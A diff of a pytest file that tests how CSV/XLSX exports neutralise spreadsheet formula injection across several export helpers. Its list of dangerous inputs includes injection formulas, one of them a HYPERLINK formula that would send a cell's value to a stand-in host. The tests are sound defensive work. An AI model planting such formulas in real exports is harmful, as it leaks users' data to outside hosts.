@@ -1,5 +1,6 @@
 """One rule for formula injection in every export (issue 7, "Exports"): core.exports.safe_cell, which
-the list exports (core.exports), events, dashboards and API exports all call."""
+the list exports (core.exports: pages' and API's, through cell_value), events and dashboards
+(core.exports.xlsx_append) all call."""
 
 from __future__ import annotations
 
@@ -7,15 +8,20 @@ from decimal import Decimal
 
 import pytest
 
-from core.api.renderers import neutralise as api_neutralise
-from core.exports import safe_cell
-from dashboards.export import _cell as dashboard_cell
+from core.exports import cell_value, safe_cell
 from events.exports import safe_cell as events_safe_cell
 
 DANGEROUS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x/?"&A1)', "＝1"]
 HARMLESS = ["晋中", "榆次区 = 1", "a-b", ""]
 NUMBERS = [-1, 0, 5, -1.5, Decimal("-3500.5"), Decimal("12")]
-HELPERS = [safe_cell, events_safe_cell, dashboard_cell, api_neutralise]
+
+
+def list_export_cell(value):
+    """A cell of a list export (pages' and API's) as the xlsx writer gets it."""
+    return cell_value(value, for_csv=False)
+
+
+HELPERS = [safe_cell, events_safe_cell, list_export_cell]
 
 
 @pytest.mark.parametrize("helper", HELPERS, ids=lambda h: f"{h.__module__}.{h.__name__}")
